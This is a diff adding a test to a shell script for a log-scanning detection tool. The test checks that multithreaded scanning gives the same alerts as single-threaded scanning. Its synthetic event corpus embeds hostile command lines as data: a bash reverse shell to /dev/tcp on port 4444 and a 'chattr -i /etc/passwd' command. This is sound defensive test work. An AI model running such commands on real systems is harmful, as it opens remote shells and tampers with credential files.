@@ -46,3 +46,30 @@ printf 'path /usr/bin/chattr\n' >"$WORK/iocs.txt"
 "$CLI" scan --rules "$RULES" "$WORK/missing.jsonl" >/dev/null 2>"$WORK/e2.txt" && fail "missing file accepted"
 grep -q "missing.jsonl" "$WORK/e2.txt" || fail "missing file not named"
 echo "ok: table, stdin, levels, indicators, errors"
+
+# The parser thread changes nothing: --threads 1 and 2 give the same alerts in the same order,
+# from a file and from a pipe, over a few thousand events with attacks among them.
+python3 - "$WORK/many.jsonl" <<'PY'
+import json, sys
+with open(sys.argv[1], "w") as f:
+    for i in range(5000):
+        cmd = "chattr -i /etc/passwd" if i % 97 == 0 else ("bash -i >& /dev/tcp/10.0.0.%d/4444 0>&1" % (i % 250) if i % 131 == 0 else "ls -la /srv/%d" % i)
+        exe = cmd.split()[0]
+        f.write(json.dumps({"@timestamp": "2026-11-21T10:%02d:%02dZ" % (i // 60 % 60, i % 60),
+                            "event": {"category": ["process"], "type": ["start"], "action": "exec"},
+                            "host": {"name": "s%d" % (i % 7)}, "process": {"executable": "/usr/bin/" + exe,
+                            "command_line": cmd, "entity_id": "e%d" % i, "parent": {"executable": "/bin/bash"}}}) + "\n")
+        if i % 1000 == 999:
+            f.write("not a log line %d\n" % i)
+PY
+for t in 1 2; do
+  "$CLI" scan --threads $t --rules "$RULES" --output jsonl "$WORK/many.jsonl" 2>"$WORK/m$t.err" |
+    python3 -c 'import json,sys; [print(json.dumps({k: v for k, v in json.loads(l).items() if k != "event"}, sort_keys=True)) for l in sys.stdin]' >"$WORK/m$t.txt"
+  "$CLI" scan --threads $t --rules "$RULES" --output jsonl - <"$WORK/many.jsonl" 2>/dev/null |
+    python3 -c 'import json,sys; [print(json.dumps({k: v for k, v in json.loads(l).items() if k != "event"}, sort_keys=True)) for l in sys.stdin]' >"$WORK/p$t.txt"
+done
+[ "$(wc -l <"$WORK/m1.txt")" -gt 50 ] || fail "too few alerts over the threads corpus: $(wc -l <"$WORK/m1.txt")"
+cmp -s "$WORK/m1.txt" "$WORK/m2.txt" || fail "--threads 2 differs from --threads 1 (file)"
+cmp -s "$WORK/p1.txt" "$WORK/p2.txt" || fail "--threads 2 differs from --threads 1 (pipe)"
+grep -q "5 malformed lines" "$WORK/m2.txt" "$WORK/m2.err" || fail "malformed count with 2 threads: $(cat "$WORK/m2.err")"
+echo "ok: --threads 2 gives what --threads 1 gives ($(wc -l <"$WORK/m1.txt") alerts)"
